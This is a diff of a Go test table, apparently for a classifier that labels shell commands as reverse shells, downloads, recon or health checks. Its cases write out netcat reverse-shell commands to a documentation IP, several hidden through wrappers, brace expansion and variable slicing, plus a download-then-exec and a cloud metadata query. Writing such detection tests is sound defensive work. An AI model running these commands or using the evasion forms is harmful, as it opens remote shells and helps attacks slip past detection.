@@ -53,7 +53,7 @@ func TestRead(t *testing.T) {
 		"fetched, not run":       {args: []string{"sh", "-c", "curl -o /app/x https://dl.example.com/x; exec /app/y"}, want: []Behavior{Download}},
 		"wrappers":               {args: []string{"sudo", "-u", "app", "timeout", "-s", "9", "5", "env", "A=1", "nohup", "nc", "-e", "/bin/sh", "203.0.113.1", "1"}, want: []Behavior{ReverseShell}, class: Malicious},
 		"brace list":             {args: []string{"bash", "-c", "{nc,-e,/bin/sh,203.0.113.1,1}"}, want: []Behavior{ReverseShell}, class: Malicious},
-		"slices of a constant":   {args: []string{"bash", "-c", "A=xncx; ${A:1:2} -e /bin/sh 203.0.113.1 1"}, want: []Behavior{ReverseShell}, class: Malicious},
+		"slices of a constant":   {args: []string{"bash", "-c", "A=xncx; ${A:1:2} -e /bin/sh 203.0.113.1 1"}, want: []Behavior{ReverseShell, EncodedPayload}, class: Malicious},
 		"loopback is healthy":    {args: []string{"curl", "-f", "http://localhost:8080/healthz"}, want: []Behavior{HealthCheck}, class: Benign},
 		"project id is no token": {args: []string{"curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/project/project-id"}, want: []Behavior{Recon, Download}},
 	} {
